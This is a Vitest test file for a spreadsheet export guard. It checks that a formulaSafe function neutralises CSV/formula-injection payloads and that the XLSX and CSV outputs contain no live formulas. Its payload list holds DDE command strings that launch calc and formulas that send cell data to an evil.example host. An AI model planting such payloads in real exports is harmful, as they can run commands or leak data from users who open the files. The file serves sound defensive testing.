import { buffer } from 'node:stream/consumers';
import { read, utils } from '@e965/xlsx';
import { parse } from 'csv-parse/sync';
import { describe, expect, it } from 'vitest';
import { fileStream } from '../../reports/export/file.ts';
import { formulaSafe } from '../../reports/export/safe.ts';
import type { Sheet } from '../../reports/export/table.ts';

/** OWASP "CSV Injection", and ways around a simple guard. */
const PAYLOADS = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '＝1+1',
  '＋1',
  '＠SUM(1)',
  '"=1+1',
  '=HYPERLINK("http://evil.example?x="&A1,"点这里")',
  '=IMPORTXML(CONCAT("http://evil.example/",A1),"//a")',
  '\u0000=1+1',
  '\ufeff=1+1',
];
const PLAIN = ['没签合同', 'a=b', '1+1', '<script>alert(1)</script> & "x"', '第五条', '😀', 'a\nb', "it's"];

function sheet(rows: (string | number | null)[][]): Sheet {
  const columns = [
    { head: '=问题', width: 20 },
    { head: '数', width: 8 },
  ];
  return { name: '提问/[x]:*', notes: ['=机器生成'], columns, rows };
}

describe('a cell', () => {
  it.each(PAYLOADS)('holds %j as text', (payload) => {
    expect(formulaSafe(payload)).toMatch(/^'/);
  });
  it.each(PLAIN)('leaves %j as it is', (text) => {
    expect(formulaSafe(text)).toBe(text);
  });
});

describe('a file', () => {
  const rows = [...PAYLOADS, ...PLAIN].map((text) => [text, 12.5]);

  it('as XLSX opens with every text as text, every figure as a figure', async () => {
    const book = read(
      await buffer(fileStream('xlsx', [sheet(rows), { ...sheet([['二', null]]), name: '二' }])),
    );
    expect(book.SheetNames).toHaveLength(2);
    const first = book.Sheets[book.SheetNames[0]!]!;
    for (const [name, cell] of Object.entries(first).filter(([name]) => !name.startsWith('!')))
      expect(cell, name).not.toHaveProperty('f');
    const shown = utils.sheet_to_json<[string, number]>(first, { header: 1 });
    expect(shown.slice(0, 2)).toEqual([["'=机器生成"], ["'=问题", '数']]);
    expect(shown.slice(2)).toEqual(
      rows.map(([text]) => [formulaSafe(String(text)).replaceAll('\r', '\n'), 12.5]),
    );
  });

  it('as CSV says the same, with the mark Excel needs', async () => {
    const bytes = await buffer(fileStream('csv', [sheet(rows)]));
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const read = parse(bytes, { bom: true, relax_column_count: true }) as string[][];
    expect(read[1]).toEqual(["'=问题", '数']);
    expect(read.slice(2)).toEqual(rows.map(([text]) => [formulaSafe(String(text)), '12.5']));
  });

  it('takes as many rows as come without holding them', async () => {
    async function* many() {
      for (let i = 0; i < 20_000; i++) yield [`问题 ${i}`, i];
    }
    const book = read(await buffer(fileStream('xlsx', [{ ...sheet([]), rows: many() }])));
    const shown = utils.sheet_to_json(book.Sheets[book.SheetNames[0]!]!, { header: 1 });
    expect(shown).toHaveLength(20_002);
    expect(shown.at(-1)).toEqual(['问题 19999', 19_999]);
  });

  it('ends with the refusal when reading its rows fails', async () => {
    async function* failing() {
      yield ['一', 1];
      throw new Error('the store went away');
    }
    for (const format of ['xlsx', 'csv'] as const) {
      const broken = buffer(fileStream(format, [{ ...sheet([]), rows: failing() }]));
      await expect(broken).rejects.toThrow('the store went away');
    }
  });
});
